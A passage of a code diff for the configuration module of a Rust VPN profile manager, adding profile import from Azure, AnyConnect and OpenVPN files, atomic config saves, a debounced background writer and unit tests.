+                let primary = self.primary(profile);
+                (primary != profile.name).then_some(profile.name.as_str())
+            }
+        }
+    }
+}
+
+impl Settings {
+    /// Endpoint for `VpnManager::with_public_ip_endpoint`: None when the
+    /// check is off or no endpoint is set
+    pub fn public_ip_endpoint(&self) -> Option<String> {
+        let endpoint = self.public_ip_endpoint.trim();
+        (self.check_public_ip && !endpoint.is_empty()).then(|| endpoint.to_string())
+    }
 }
 
 impl Default for Settings {
@@ -43,6 +1010,32 @@ impl Default for Settings {
             reconnect_delay_seconds: 30,
             status_check_interval_seconds: 5,
             log_level: "info".to_string(),
+            verify_connections: false,
+            verify_interval_seconds: 60,
+            alert_on_drop: false,
+            search_history: Vec::new(),
+            disconnect_on_data_cap: false,
+            display_primary: DisplayPrimary::default(),
+            redact_shared_username: false,
+            duration_display: DurationDisplay::default(),
+            connect_timeout_seconds: crate::vpn::DEFAULT_CONNECT_TIMEOUT_SECS,
+            status_debounce_refreshes: 1,
+            show_last_ip: false,
+            auto_import_dirs: Vec::new(),
+            auto_import_azure: true,
+            history_max_lines: crate::history::DEFAULT_MAX_LINES,
+            max_retries: 2,
+            max_log_lines: 1000,
+            allow_multiple_connections: false,
+            check_public_ip: true,
+            public_ip_endpoint: crate::vpn::DEFAULT_PUBLIC_IP_ENDPOINT.to_string(),
+            hook_timeout_seconds: 30,
+            abort_on_hook_failure: true,
+            batch_keep_going: false,
+            confirm_before_connect: false,
+            check_dns_leak: false,
+            kill_switch: false,
+            kill_switch_dry_run: false,
         }
     }
 }
@@ -60,6 +1053,12 @@ impl Config {
         Ok(home_config_dir.join("config.toml"))
     }
 
+    /// Unix socket the daemon listens on for control commands
+    pub fn control_socket_path() -> Result<PathBuf> {
+        let config_path = Self::config_path()?;
+        Ok(config_path.with_file_name("remipn.sock"))
+    }
+
     pub fn import_dir() -> Result<PathBuf> {
         let import_dir = dirs::home_dir()
             .ok_or_else(|| anyhow::anyhow!("Could not find home directory"))?
@@ -87,36 +1086,51 @@ impl Config {
         }
     }
 
-    pub fn auto_import_profiles(&mut self) -> Result<bool> {
-        let mut imported_any = false;
+    /// Import new profiles from the auto-import directories, returning the
+    /// names of the profiles added
+    pub fn auto_import_profiles(&mut self) -> Result<Vec<String>> {
+        let mut added = Vec::new();
 
-        // Import from default import dir
-        if let Ok(import_dir) = Self::import_dir()
-            && self.import_from_dir(&import_dir)?
-        {
-            imported_any = true;
+        for dir in self.auto_import_dirs() {
+            added.extend(self.import_from_dir(&dir, None)?);
         }
 
         // Import from Azure VPN Client dir on macOS
         #[cfg(target_os = "macos")]
         {
-            if let Ok(azure_dir) = Self::azure_vpn_import_dir()
+            if self.settings.auto_import_azure
+                && let Ok(azure_dir) = Self::azure_vpn_import_dir()
                 && azure_dir.exists()
-                && self.import_from_dir(&azure_dir)?
             {
-                imported_any = true;
+                added.extend(self.import_from_dir(&azure_dir, Some(SOURCE_AZURE_CLIENT))?);
             }
         }
 
-        if imported_any {
+        if !added.is_empty() {
             self.save()?;
         }
 
-        Ok(imported_any)
+        Ok(added)
     }
 
-    fn import_from_dir(&mut self, dir: &PathBuf) -> Result<bool> {
-        let mut imported_any = false;
+    /// Directories scanned by auto-import, with a leading `~` expanded.
+    /// Falls back to the default imports dir when none are configured.
+    pub fn auto_import_dirs(&self) -> Vec<PathBuf> {
+        if self.settings.auto_import_dirs.is_empty() {
+            return Self::import_dir().into_iter().collect();
+        }
+        self.settings
+            .auto_import_dirs
+            .iter()
+            .map(|dir| expand_home(dir))
+            .collect()
+    }
+
+    /// Import every profile file in `dir`, returning the names added.
+    /// Profiles are attributed to `source` when given, otherwise to the file
+    /// they came from.
+    fn import_from_dir(&mut self, dir: &PathBuf, source: Option<&str>) -> Result<Vec<String>> {
+        let mut added = Vec::new();
         if dir.exists() {
             for entry in fs::read_dir(dir)? {
                 let entry = entry?;
@@ -127,44 +1141,359 @@ impl Config {
                         || extension == Some("ovpn")
                         || extension == Some("azvpn")
                     {
-                        let content = fs::read_to_string(&path)?;
-                        if let Ok(new_profiles) = Self::import_from_xml(&content) {
-                            for np in new_profiles {
-                                if !self.profiles.iter().any(|p| p.name == np.name) {
-                                    self.profiles.push(np);
-                                    imported_any = true;
-                                }
-                            }
+                        let origin = source
+                            .map(str::to_string)
+                            .unwrap_or_else(|| path.display().to_string());
+                        if let Ok(new_profiles) = Self::import_from_file(&path) {
+                            added.extend(
+                                self.merge_imported(with_source(new_profiles, &origin), false)
+                                    .added_names,
+                            );
                         }
                     }
                 }
             }
         }
-        Ok(imported_any)
+        Ok(added)
+    }
+
+    /// Find an importable file (in the imports dir or the Azure VPN Client
+    /// dir) that defines the named profile
+    pub fn find_profile_source(name: &str) -> Option<PathBuf> {
+        let dirs = [Self::import_dir().ok(), Self::azure_vpn_import_dir().ok()];
+        for dir in dirs.into_iter().flatten() {
+            let Ok(entries) = fs::read_dir(&dir) else {
+                continue;
+            };
+            for entry in entries.flatten() {
+                let path = entry.path();
+                let extension = path.extension().and_then(|s| s.to_str());
+                if !matches!(extension, Some("xml" | "ovpn" | "azvpn")) {
+                    continue;
+                }
+                if let Ok(profiles) = Self::import_from_file(&path)
+                    && profiles.iter().any(|p| p.name == name)
+                {
+                    return Some(path);
+                }
+            }
+        }
+        None
     }
 
     pub fn load() -> Result<Self> {
-        let config_path = Self::config_path()?;
+        Self::load_from(&Self::config_path()?)
+    }
 
+    /// Read the config at `config_path`, writing an empty one there if
+    /// there is none yet
+    pub(crate) fn load_from(config_path: &Path) -> Result<Self> {
         if !config_path.exists() {
-            let default_config = Self::default();
-            default_config.save()?;
+            let default_config = Self::new_empty();
+            default_config.save_to(config_path)?;
             return Ok(default_config);
         }
 
         let contents = fs::read_to_string(config_path)?;
-        let config: Config = toml::from_str(&contents)?;
+        let mut config: Config = toml::from_str(&contents)?;
+        config.sanitize();
         Ok(config)
     }
 
+    /// Reset invalid optional values to their defaults, recording a warning for each
+    fn sanitize(&mut self) {
+        for p in &mut self.profiles {
+            let gateway = p.gateway_address.clone();
+            p.normalize_gateway();
+            if p.gateway_address != gateway {
+                self.load_warnings.push(format!(
+                    "Gateway '{}' for profile '{}' read as host '{}'{}",
+                    gateway,
+                    p.name,
+                    p.gateway_address,
+                    p.port
+                        .map(|port| format!(" with port {}", port))
+                        .unwrap_or_default()
+                ));
+            }
+            p.migrate_category();
+
+            if let Some(color) = &p.color
+                && parse_color(color).is_none()
+            {
+                self.load_warnings.push(format!(
+                    "Invalid color '{}' for profile '{}', using default",
+                    color, p.name
+                ));
+                p.color = None;
+            }
+
+            if !p.protocol.is_known() {
+                self.load_warnings.push(format!(
+                    "Unknown protocol '{}' for profile '{}'",
+                    p.protocol, p.name
+                ));
+            }
+        }
+
+        let defaults = Settings::default();
+        for (name, value, default) in [
+            (
+                "status_check_interval_seconds",
+                &mut self.settings.status_check_interval_seconds,
+                defaults.status_check_interval_seconds,
+            ),
+            (
+                "reconnect_delay_seconds",
+                &mut self.settings.reconnect_delay_seconds,
+                defaults.reconnect_delay_seconds,
+            ),
+        ] {
+            if *value < MIN_INTERVAL_SECONDS {
+                self.load_warnings.push(format!(
+                    "{} must be at least {}s, using {}",
+                    name, MIN_INTERVAL_SECONDS, default
+                ));
+                *value = default;
+            }
+        }
+    }
+
+    /// Write the config through a temp file and a rename, so a reader (or a
+    /// crash mid-write) never sees a half-written file. The file being
+    /// replaced is kept as `config.toml.bak`.
     pub fn save(&self) -> Result<()> {
-        let config_path = Self::config_path()?;
+        self.save_to(&Self::config_path()?)
+    }
+
+    /// [`Self::save`] to `config_path` instead of the usual location
+    pub(crate) fn save_to(&self, config_path: &Path) -> Result<()> {
+        use std::io::Write;
+
         let contents = toml::to_string_pretty(self)?;
-        fs::write(config_path, contents)?;
+        let tmp_path = config_path.with_extension("toml.tmp");
+        let mut tmp = fs::File::create(&tmp_path)?;
+        tmp.write_all(contents.as_bytes())?;
+        // On disk before the rename, or a crash could leave an empty config
+        tmp.sync_all()?;
+        drop(tmp);
+
+        if config_path.exists()
+            && let Err(e) = fs::copy(config_path, config_path.with_extension("toml.bak"))
+        {
+            log::warn!("Could not back up {}: {}", config_path.display(), e);
+        }
+        fs::rename(&tmp_path, config_path)?;
         Ok(())
     }
 
+    /// Look a profile up by exact name or alias, falling back to a
+    /// case-insensitive match of either: the whole text, then a prefix, then
+    /// a substring. Exact matches always win.
+    pub fn match_profile(&self, key: &str) -> ProfileMatch<'_> {
+        match_profile(&self.profiles, key)
+    }
+
+    /// Record when a profile reached Connected. Returns false when no
+    /// profile has that name or the time is already recorded.
+    pub fn mark_connected(&mut self, name: &str, at: chrono::DateTime<chrono::Local>) -> bool {
+        match self.profiles.iter_mut().find(|p| p.name == name) {
+            Some(profile) if profile.last_connected != Some(at) => {
+                profile.last_connected = Some(at);
+                true
+            }
+            _ => false,
+        }
+    }
+
+    /// Find a profile by exact name or alias
+    pub fn find_profile(&self, key: &str) -> Option<&VpnProfile> {
+        self.profiles
+            .iter()
+            .find(|p| p.name == key || p.aliases.iter().any(|a| a == key))
+    }
+
+    /// Name for a copy of `name` that no profile uses yet: "<name> (copy)",
+    /// then "<name> (copy 2)", "<name> (copy 3)", ...
+    pub fn copy_name(&self, name: &str) -> String {
+        let taken = |candidate: &str| self.profiles.iter().any(|p| p.name == candidate);
+        let mut candidate = format!("{} (copy)", name);
+        let mut n = 2;
+        while taken(&candidate) {
+            candidate = format!("{} (copy {})", name, n);
+            n += 1;
+        }
+        candidate
+    }
+
+    /// Add imported profiles whose name isn't known yet. With `update_existing`,
+    /// profiles already present by name get their endpoint (gateway, port and
+    /// protocol) refreshed while local customizations are kept.
+    pub fn merge_imported(
+        &mut self,
+        imported: Vec<VpnProfile>,
+        update_existing: bool,
+    ) -> ImportSummary {
+        let mut summary = ImportSummary::default();
+        for mut np in imported {
+            // Trusting hooks is a local decision, never taken from the file
+            np.trust_hooks = false;
+            match self.profiles.iter_mut().find(|p| p.name == np.name) {
+                None => {
+                    summary.added_names.push(np.name.clone());
+                    self.profiles.push(np);
+                    summary.added += 1;
+                }
+                Some(existing) if update_existing => {
+                    let port = |p: Option<u16>| p.map_or("default".to_string(), |p| p.to_string());
+                    let fields = [
+                        (
+                            "gateway",
+                            existing.gateway_address.clone(),
+                            np.gateway_address.clone(),
+                        ),
+                        ("port", port(existing.port), port(np.port)),
+                        (
+                            "protocol",
+                            existing.protocol.to_string(),
+                            np.protocol.to_string(),
+                        ),
+                    ];
+                    let before = summary.changes.len();
+                    for (field, old, new) in fields {
+                        if old != new {
+                            summary.changes.push(FieldChange {
+                                profile: existing.name.clone(),
+                                field,
+                                old,
+                                new,
+                            });
+                        }
+                    }
+                    existing.gateway_address = np.gateway_address;
+                    existing.port = np.port;
+                    existing.protocol = np.protocol;
+                    if summary.changes.len() > before {
+                        summary.updated += 1;
+                    } else {
+                        summary.skipped += 1;
+                    }
+                }
+                Some(_) => summary.skipped += 1,
+            }
+        }
+        summary
+    }
+
+    /// Parse a Cisco AnyConnect profile: each `HostEntry` becomes an
+    /// AnyConnect profile named after its `HostName`
+    fn import_from_anyconnect(xml_content: &str) -> Result<Vec<VpnProfile>> {
+        let re_entry =
+            regex::Regex::new(r"(?s)<(?:\w+:)?HostEntry\b[^>]*>(.*?)</(?:\w+:)?HostEntry>")
+                .unwrap();
+        let re_name =
+            regex::Regex::new(r"(?s)<(?:\w+:)?HostName>(.*?)</(?:\w+:)?HostName>").unwrap();
+        let re_address =
+            regex::Regex::new(r"(?s)<(?:\w+:)?HostAddress>(.*?)</(?:\w+:)?HostAddress>").unwrap();
+
+        let mut profiles = Vec::new();
+        for cap in re_entry.captures_iter(xml_content) {
+            let entry = &cap[1];
+            let name = re_name.captures(entry).map(|c| decode_xml_text(&c[1]));
+            let address = re_address.captures(entry).map(|c| decode_xml_text(&c[1]));
+            if let (Some(name), Some(address)) = (name, address) {
+                let mut profile = VpnProfile {
+                    name,
+                    gateway_address: address,
+                    protocol: Protocol::AnyConnect,
+                    ..Default::default()
+                };
+                profile.normalize_gateway();
+                profiles.push(profile);
+            }
+        }
+        if profiles.is_empty() {
+            return Err(anyhow::anyhow!(
+                "AnyConnect profile has no HostEntry with a HostName and HostAddress"
+            ));
+        }
+        Ok(profiles)
+    }
+
+    /// Import the profiles defined in a file, parsed by its extension
+    pub fn import_from_file(path: &Path) -> Result<Vec<VpnProfile>> {
+        let content = fs::read_to_string(path)?;
+        Self::import_from_contents(&content, path)
+    }
+
+    /// Parse `content` read from `path`: OpenVPN configs for `.ovpn`,
+    /// profile XML for anything else
+    pub fn import_from_contents(content: &str, path: &Path) -> Result<Vec<VpnProfile>> {
+        let extension = path.extension().and_then(|s| s.to_str());
+        if !extension.is_some_and(|e| e.eq_ignore_ascii_case("ovpn")) {
+            return Self::import_from_xml(content);
+        }
+        let mut profile = Self::import_from_ovpn(content)?;
+        if profile.name.is_empty() {
+            profile.name = path
+                .file_stem()
+                .and_then(|s| s.to_str())
+                .unwrap_or("OpenVPN")
+                .to_string();
+        }
+        Ok(vec![profile])
+    }
+
+    /// Parse an OpenVPN config: the first `remote <host> [port]` is the
+    /// gateway and a `# name: <name>` comment names the profile. `proto`
+    /// (udp/tcp) only picks OpenVPN's transport, so the profile is OpenVPN
+    /// either way. Without a name comment the name is left empty for the
+    /// caller to fill in, usually from the file name.
+    pub fn import_from_ovpn(content: &str) -> Result<VpnProfile> {
+        let mut name = None;
+        let mut remote = None;
+        for line in content.lines() {
+            let line = line.trim();
+            if let Some(comment) = line.strip_prefix('#').or_else(|| line.strip_prefix(';')) {
+                if let Some((key, value)) = comment.split_once(':')
+                    && key.trim().eq_ignore_ascii_case("name")
+                    && !value.trim().is_empty()
+                    && name.is_none()
+                {
+                    name = Some(value.trim().to_string());
+                }
+                continue;
+            }
+            let mut words = line.split_whitespace();
+            if words.next() == Some("remote") && remote.is_none() {
+                let host = words
+                    .next()
+                    .ok_or_else(|| anyhow::anyhow!("OpenVPN 'remote' line has no host"))?;
+                let port = words.next().and_then(|p| p.parse::<u16>().ok());
+                remote = Some((host.to_string(), port));
+            }
+        }
+
+        let (host, port) =
+            remote.ok_or_else(|| anyhow::anyhow!("OpenVPN config has no 'remote' line"))?;
+        let mut profile = VpnProfile {
+            name: name.unwrap_or_default(),
+            gateway_address: host,
+            protocol: Protocol::OpenVpn,
+            ..Default::default()
+        };
+        profile.normalize_gateway();
+        if port.is_some() && port != Protocol::OpenVpn.default_port() {
+            profile.port = port;
+        }
+        Ok(profile)
+    }
+
     pub fn import_from_xml(xml_content: &str) -> Result<Vec<VpnProfile>> {
+        if xml_content.contains("AnyConnectProfile") {
+            return Self::import_from_anyconnect(xml_content);
+        }
+
         #[derive(Debug, Deserialize)]
         struct VpnProfileXml {
             #[serde(rename = "Name")]
@@ -222,32 +1551,33 @@ impl Config {
             // Extract all <VpnProfile> sections manually (case-insensitive tags if possible, but keeping it simple)
             let re_profile = regex::Regex::new(r"(?s)<(?:\w+:)?(?:AzVpnProfile|VpnProfile).*?>.*?</(?:\w+:)?(?:AzVpnProfile|VpnProfile)>").unwrap();
             let re_name =
-                regex::Regex::new(r"<(?:\w+:)?(?:Name|name)>(.*?)</(?:\w+:)?(?:Name|name)>")
+                regex::Regex::new(r"(?s)<(?:\w+:)?(?:Name|name)>(.*?)</(?:\w+:)?(?:Name|name)>")
                     .unwrap();
-            let re_server = regex::Regex::new(r"<(?:\w+:)?(?:Server|fqdn|displayname)>(.*?)</(?:\w+:)?(?:Server|fqdn|displayname)>").unwrap();
-            let re_protocol = regex::Regex::new(r"<(?:\w+:)?(?:Protocol|transportprotocol)>(.*?)</(?:\w+:)?(?:Protocol|transportprotocol)>").unwrap();
+            let re_server = regex::Regex::new(r"(?s)<(?:\w+:)?(?:Server|fqdn|displayname)>(.*?)</(?:\w+:)?(?:Server|fqdn|displayname)>").unwrap();
+            let re_protocol = regex::Regex::new(r"(?s)<(?:\w+:)?(?:Protocol|transportprotocol)>(.*?)</(?:\w+:)?(?:Protocol|transportprotocol)>").unwrap();
 
             for cap in re_profile.find_iter(xml_content) {
                 let section = cap.as_str();
-                let name = re_name.captures(section).map(|c| c[1].to_string());
-                let server = re_server.captures(section).map(|c| c[1].to_string());
-                let protocol = re_protocol.captures(section).map(|c| c[1].to_string());
+                let name = re_name.captures(section).map(|c| decode_xml_text(&c[1]));
+                let server = re_server.captures(section).map(|c| decode_xml_text(&c[1]));
+                let protocol = re_protocol
+                    .captures(section)
+                    .map(|c| decode_xml_text(&c[1]));
 
                 if let (Some(n), Some(s)) = (name, server) {
                     manual_profiles.push(VpnProfile {
                         name: n,
                         gateway_address: s,
-                        category: "Uncategorized".to_string(),
-                        cert_path: None,
-                        username: None,
-                        aliases: None,
-                        protocol: protocol.unwrap_or_else(|| "IKEv2".to_string()),
-                        auto_connect: false,
+                        protocol: protocol.map(Protocol::from).unwrap_or(Protocol::IKEv2),
+                        ..Default::default()
                     });
                 }
             }
 
             if !manual_profiles.is_empty() {
+                for p in &mut manual_profiles {
+                    p.normalize_gateway();
+                }
                 return Ok(manual_profiles);
             }
 
@@ -262,32 +1592,33 @@ impl Config {
 
             let re_profile = regex::Regex::new(r"(?s)<(?:\w+:)?(?:AzVpnProfile|VpnProfile).*?>.*?</(?:\w+:)?(?:AzVpnProfile|VpnProfile)>").unwrap();
             let re_name =
-                regex::Regex::new(r"<(?:\w+:)?(?:Name|name)>(.*?)</(?:\w+:)?(?:Name|name)>")
+                regex::Regex::new(r"(?s)<(?:\w+:)?(?:Name|name)>(.*?)</(?:\w+:)?(?:Name|name)>")
                     .unwrap();
-            let re_server = regex::Regex::new(r"<(?:\w+:)?(?:Server|fqdn|displayname)>(.*?)</(?:\w+:)?(?:Server|fqdn|displayname)>").unwrap();
-            let re_protocol = regex::Regex::new(r"<(?:\w+:)?(?:Protocol|transportprotocol)>(.*?)</(?:\w+:)?(?:Protocol|transportprotocol)>").unwrap();
+            let re_server = regex::Regex::new(r"(?s)<(?:\w+:)?(?:Server|fqdn|displayname)>(.*?)</(?:\w+:)?(?:Server|fqdn|displayname)>").unwrap();
+            let re_protocol = regex::Regex::new(r"(?s)<(?:\w+:)?(?:Protocol|transportprotocol)>(.*?)</(?:\w+:)?(?:Protocol|transportprotocol)>").unwrap();
 
             for cap in re_profile.find_iter(xml_content) {
                 let section = cap.as_str();
-                let name = re_name.captures(section).map(|c| c[1].to_string());
-                let server = re_server.captures(section).map(|c| c[1].to_string());
-                let protocol = re_protocol.captures(section).map(|c| c[1].to_string());
+                let name = re_name.captures(section).map(|c| decode_xml_text(&c[1]));
+                let server = re_server.captures(section).map(|c| decode_xml_text(&c[1]));
+                let protocol = re_protocol
+                    .captures(section)
+                    .map(|c| decode_xml_text(&c[1]));
 
                 if let (Some(n), Some(s)) = (name, server) {
                     manual_profiles.push(VpnProfile {
                         name: n,
                         gateway_address: s,
-                        category: "Uncategorized".to_string(),
-                        cert_path: None,
-                        username: None,
-                        aliases: None,
-                        protocol: protocol.unwrap_or_else(|| "IKEv2".to_string()),
-                        auto_connect: false,
+                        protocol: protocol.map(Protocol::from).unwrap_or(Protocol::IKEv2),
+                        ..Default::default()
                     });
                 }
             }
 
             if !manual_profiles.is_empty() {
+                for p in &mut manual_profiles {
+                    p.normalize_gateway();
+                }
                 return Ok(manual_profiles);
             }
         }
@@ -297,39 +1628,625 @@ impl Config {
             let name = p
                 .name
                 .or(p.name_lower)
+                .map(|n| decode_xml_text(&n))
                 .unwrap_or_else(|| "Unnamed".to_string());
-            let server = p.server.or(p.fqdn).unwrap_or_else(|| "unknown".to_string());
+            let server = p
+                .server
+                .or(p.fqdn)
+                .map(|s| decode_xml_text(&s))
+                .unwrap_or_else(|| "unknown".to_string());
 
             vpn_profiles.push(VpnProfile {
                 name,
                 gateway_address: server,
-                category: "Uncategorized".to_string(),
-                cert_path: None,
-                username: None,
-                aliases: None,
-                protocol: p.protocol.unwrap_or_else(|| "IKEv2".to_string()),
-                auto_connect: false,
+                protocol: p
+                    .protocol
+                    .map(|p| Protocol::from(decode_xml_text(&p)))
+                    .unwrap_or(Protocol::IKEv2),
+                ..Default::default()
             });
         }
 
+        for p in &mut vpn_profiles {
+            p.normalize_gateway();
+        }
         Ok(vpn_profiles)
     }
 }
 
-impl Default for Config {
-    fn default() -> Self {
+impl Config {
+    /// A fresh config with no profiles and default settings
+    pub fn new_empty() -> Self {
         Self {
-            profiles: vec![VpnProfile {
-                name: "Azure VPN Example".to_string(),
-                gateway_address: "vpn-gateway.azure.com".to_string(),
-                category: "prod".to_string(),
-                cert_path: Some("/path/to/cert.pem".to_string()),
-                username: Some("user@example.com".to_string()),
-                aliases: Some("example".to_string()),
-                protocol: "IKEv2".to_string(),
-                auto_connect: false,
-            }],
+            profiles: Vec::new(),
             settings: Settings::default(),
+            ui: UiState::default(),
+            sequences: Vec::new(),
+            load_warnings: Vec::new(),
         }
     }
+
+    /// Sample profile offered by `remipn init --with-example`
+    pub fn example_profile() -> VpnProfile {
+        VpnProfile {
+            name: "Azure VPN Example".to_string(),
+            gateway_address: "vpn-gateway.azure.com".to_string(),
+            category: "prod".to_string(),
+            tags: vec!["prod".to_string()],
+            cert_path: Some("/path/to/cert.pem".to_string()),
+            username: Some("user@example.com".to_string()),
+            aliases: Some("example".to_string()),
+            ..Default::default()
+        }
+    }
+}
+
+impl Default for Config {
+    fn default() -> Self {
+        Self::new_empty()
+    }
+}
+
+/// How long the TUI writer waits for further changes before writing
+const WRITE_DEBOUNCE: std::time::Duration = std::time::Duration::from_millis(500);
+
+enum WriteRequest {
+    Save(Box<Config>),
+    Flush(tokio::sync::oneshot::Sender<()>),
+}
+
+/// Persists config snapshots from a background task so the TUI never blocks
+/// on disk I/O. Snapshots sent within the debounce window are coalesced into
+/// a single write of the latest one.
+#[derive(Clone)]
+pub struct ConfigWriter {
+    tx: tokio::sync::mpsc::UnboundedSender<WriteRequest>,
+}
+
+impl ConfigWriter {
+    pub fn spawn() -> Self {
+        Self::spawn_with(None)
+    }
+
+    /// A writer saving to `path` instead of the usual config file
+    #[cfg(test)]
+    pub fn spawn_at(path: PathBuf) -> Self {
+        Self::spawn_with(Some(path))
+    }
+
+    fn spawn_with(path: Option<PathBuf>) -> Self {
+        let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel();
+        tokio::spawn(async move {
+            let mut pending: Option<(Box<Config>, tokio::time::Instant)> = None;
+            loop {
+                let request = match pending.as_ref().map(|(_, deadline)| *deadline) {
+                    Some(deadline) => match tokio::time::timeout_at(deadline, rx.recv()).await {
+                        Ok(request) => request,
+                        Err(_) => {
+                            Self::write(path.as_deref(), pending.take()).await;
+                            continue;
+                        }
+                    },
+                    None => rx.recv().await,
+                };
+                match request {
+                    Some(WriteRequest::Save(config)) => {
+                        // Keep the first deadline so a steady stream of
+                        // changes still gets written
+                        let deadline = pending
+                            .take()
+                            .map(|(_, d)| d)
+                            .unwrap_or_else(|| tokio::time::Instant::now() + WRITE_DEBOUNCE);
+                        pending = Some((config, deadline));
+                    }
+                    Some(WriteRequest::Flush(done)) => {
+                        Self::write(path.as_deref(), pending.take()).await;
+                        let _ = done.send(());
+                    }
+                    None => {
+                        Self::write(path.as_deref(), pending.take()).await;
+                        break;
+                    }
+                }
+            }
+        });
+        Self { tx }
+    }
+
+    async fn write(path: Option<&Path>, pending: Option<(Box<Config>, tokio::time::Instant)>) {
+        let Some((config, _)) = pending else {
+            return;
+        };
+        let path = path.map(Path::to_path_buf);
+        let save = move || match path {
+            Some(path) => config.save_to(&path),
+            None => config.save(),
+        };
+        match tokio::task::spawn_blocking(save).await {
+            Ok(Ok(())) => {}
+            Ok(Err(e)) => log::warn!("Failed to save config: {}", e),
+            Err(e) => log::warn!("Config writer task failed: {}", e),
+        }
+    }
+
+    /// Queue a snapshot of `config` for writing
+    pub fn save(&self, config: &Config) {
+        let _ = self.tx.send(WriteRequest::Save(Box::new(config.clone())));
+    }
+
+    /// Write any pending snapshot now and wait for it to hit the disk
+    pub async fn flush(&self) {
+        let (done, wait) = tokio::sync::oneshot::channel();
+        if self.tx.send(WriteRequest::Flush(done)).is_ok() {
+            let _ = wait.await;
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn gateway(address: &str) -> VpnProfile {
+        VpnProfile {
+            name: "Office".to_string(),
+            gateway_address: address.to_string(),
+            ..Default::default()
+        }
+    }
+
+    #[test]
+    fn gateway_host_and_port_are_split() {
+        assert_eq!(
+            split_host_port("vpn.example.com"),
+            ("vpn.example.com".to_string(), None)
+        );
+        assert_eq!(
+            split_host_port("vpn.example.com:8443"),
+            ("vpn.example.com".to_string(), Some(8443))
+        );
+        assert_eq!(
+            split_host_port("[::1]:4500"),
+            ("::1".to_string(), Some(4500))
+        );
+        assert_eq!(split_host_port("fe80::1"), ("fe80::1".to_string(), None));
+        assert_eq!(
+            split_host_port("https://vpn.example.com:443/remote"),
+            ("vpn.example.com".to_string(), Some(443))
+        );
+    }
+
+    #[test]
+    fn gateway_port_prefers_the_explicit_one() {
+        let mut profile = gateway("[::1]:4500");
+        assert_eq!(profile.gateway_host(), "::1");
+        assert_eq!(profile.gateway_port(), Some(4500));
+
+        profile.normalize_gateway();
+        assert_eq!(profile.gateway_address, "::1");
+        assert_eq!(profile.port, Some(4500));
+        assert_eq!(profile.gateway_display(), "[::1]:4500");
+
+        // No port anywhere: the protocol's standard one
+        assert_eq!(gateway("vpn.example.com").gateway_port(), Some(500));
+    }
+
+    #[test]
+    fn rewritten_gateways_are_reported_on_load() {
+        let mut config = Config::new_empty();
+        config.profiles = vec![gateway("vpn.example.com"), gateway("vpn.example.com:8443")];
+        config.sanitize();
+
+        assert_eq!(config.profiles[1].gateway_address, "vpn.example.com");
+        assert_eq!(config.profiles[1].port, Some(8443));
+        assert_eq!(
+            config.load_warnings,
+            vec![
+                "Gateway 'vpn.example.com:8443' for profile 'Office' read as host 'vpn.example.com' with port 8443"
+            ]
+        );
+    }
+
+    #[test]
+    fn legacy_categories_load_as_tags() {
+        let dir = std::env::temp_dir().join(format!("remipn-legacy-{}", std::process::id()));
+        fs::create_dir_all(&dir).unwrap();
+        let path = dir.join("config.toml");
+        fs::write(
+            &path,
+            r#"
+[[profiles]]
+name = "Office"
+gateway_address = "vpn.example.com"
+protocol = "IKEv2"
+auto_connect = false
+category = " prod "
+
+[[profiles]]
+name = "Home"
+gateway_address = "home.example.com"
+protocol = "IKEv2"
+auto_connect = false
+category = "Uncategorized"
+
+[[profiles]]
+name = "Lab"
+gateway_address = "lab.example.com"
+protocol = "IKEv2"
+auto_connect = false
+category = "prod"
+tags = ["lab", "emea"]
+"#,
+        )
+        .unwrap();
+
+        let config = Config::load_from(&path).unwrap();
+        let tags: Vec<&[String]> = config.profiles.iter().map(|p| &p.tags[..]).collect();
+        assert_eq!(tags[0], ["prod"]);
+        assert!(tags[1].is_empty());
+        // Tags already there win over the category
+        assert_eq!(tags[2], ["lab", "emea"]);
+        fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[test]
+    fn connect_policy_prefers_flag_then_profile_then_settings() {
+        let settings = Settings {
+            max_retries: 4,
+            connect_timeout_seconds: 30,
+            ..Default::default()
+        };
+        let mut profile = gateway("vpn.example.com");
+        let policy = |retries, timeout, profile: &VpnProfile| {
+            let policy = ConnectPolicy::resolve(retries, timeout, profile, &settings);
+            (policy.retries, policy.timeout_seconds)
+        };
+
+        assert_eq!(policy(None, None, &profile), (4, 30));
+        profile.max_retries = Some(1);
+        assert_eq!(policy(None, None, &profile), (1, 30));
+        profile.connect_timeout_seconds = Some(60);
+        assert_eq!(policy(None, None, &profile), (1, 60));
+        // --no-retry is a retries flag of 0
+        assert_eq!(policy(Some(0), None, &profile), (0, 60));
+        assert_eq!(policy(Some(3), Some(5), &profile), (3, 5));
+
+        // Without any of them, the built-in defaults
+        let defaults = ConnectPolicy::resolve(
+            None,
+            None,
+            &gateway("vpn.example.com"),
+            &Settings::default(),
+        );
+        assert_eq!(defaults.retries, 2);
+        assert_eq!(
+            defaults.timeout_seconds,
+            crate::vpn::DEFAULT_CONNECT_TIMEOUT_SECS
+        );
+    }
+
+    #[test]
+    fn ovpn_configs_import_their_gateway() {
+        let ovpn = "\
+# name: Office
+client
+dev tun
+proto tcp-client
+remote vpn.example.com 443
+remote backup.example.com 1195
+resolv-retry infinite
+auth-user-pass
+<ca>
+-----BEGIN CERTIFICATE-----
+-----END CERTIFICATE-----
+</ca>
+";
+        let profile = Config::import_from_ovpn(ovpn).unwrap();
+        assert_eq!(profile.name, "Office");
+        assert_eq!(profile.gateway_address, "vpn.example.com");
+        assert_eq!(profile.port, Some(443));
+        // proto only picks the transport, and credentials are asked for on connect
+        assert_eq!(profile.protocol, Protocol::OpenVpn);
+        assert_eq!(profile.username, None);
+
+        // The standard port isn't stored; the file name names an unnamed config
+        let plain = "proto udp\nremote 203.0.113.7 1194\nauth-user-pass creds.txt\n";
+        let profiles =
+            Config::import_from_contents(plain, Path::new("/tmp/Home Lab.OVPN")).unwrap();
+        assert_eq!(profiles[0].name, "Home Lab");
+        assert_eq!(profiles[0].gateway_address, "203.0.113.7");
+        assert_eq!(profiles[0].port, None);
+
+        assert!(Config::import_from_ovpn("client\nproto udp\n").is_err());
+    }
+
+    fn named(name: &str, alias: Option<&str>) -> VpnProfile {
+        VpnProfile {
+            name: name.to_string(),
+            aliases: alias.map(str::to_string),
+            ..Default::default()
+        }
+    }
+
+    fn found<'a>(result: ProfileMatch<'a>) -> Option<&'a str> {
+        match result {
+            ProfileMatch::Found(p) => Some(&p.name),
+            _ => None,
+        }
+    }
+
+    fn ambiguous<'a>(result: ProfileMatch<'a>) -> Vec<&'a str> {
+        match result {
